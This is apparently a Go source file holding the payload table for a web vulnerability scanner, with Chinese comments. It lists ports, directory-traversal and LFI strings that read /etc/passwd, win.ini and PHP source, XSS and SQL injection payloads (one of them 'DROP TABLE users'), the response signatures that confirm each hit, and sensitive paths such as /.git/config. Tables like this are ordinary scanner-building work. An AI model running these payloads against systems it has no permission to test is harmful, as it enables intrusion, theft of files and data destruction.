package webvuln

// Web 漏洞探测的静态载荷表
// 载荷和判定特征成对维护，改表不改控制流

// webPorts 探测的 Web 端口，443/8443 走 https
var webPorts = []int{80, 443, 8080, 8443, 8000, 3000, 5000}

var httpsPorts = map[int]struct{}{
	443:  {},
	8443: {},
}

// 目录穿越载荷与响应特征
var traversalPayloads = []string{
	"../../../etc/passwd",
	"..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
	"../../../windows/win.ini",
	"../../../../../../../../etc/passwd",
}

var traversalSignatures = []string{
	"root:x:0:0:",
	"[fonts]",
	"127.0.0.1",
}

// XSS 反射载荷与测试参数
var xssPayloads = []string{
	`<script>alert("XSS")</script>`,
	`"><script>alert("XSS")</script>`,
	`';alert('XSS');//`,
	`<img src=x onerror=alert("XSS")>`,
}

var xssParams = []string{"q", "search", "input", "name", "value", "data"}

// SQL 注入载荷、测试参数与数据库报错特征
var sqliPayloads = []string{
	`' OR '1'='1`,
	`' OR 1=1--`,
	`'; DROP TABLE users; --`,
	`1' UNION SELECT null,version(),null--`,
}

var sqliParams = []string{"id", "user", "login", "search"}

var sqliErrorPatterns = []string{
	"SQL syntax",
	"mysql_fetch",
	"ORA-01756",
	"Microsoft OLE DB",
	"PostgreSQL query failed",
}

// 本地文件包含载荷 (整串 query) 与响应特征
// PD9waHA 是 "<?php" 的 base64，命中说明 php://filter 读到了源码
var lfiPayloads = []string{
	"file=../../../etc/passwd",
	"page=../../../../windows/win.ini",
	"include=php://filter/read=convert.base64-encode/resource=index.php",
}

var lfiSignatures = []string{
	"root:x:0:0:",
	"[fonts]",
	"PD9waHA",
}

// 信息泄露探测路径
var infoDisclosurePaths = []string{
	"/robots.txt",
	"/.htaccess",
	"/phpinfo.php",
	"/test.php",
	"/info.php",
	"/.git/config",
	"/backup.sql",
	"/config.php.bak",
}
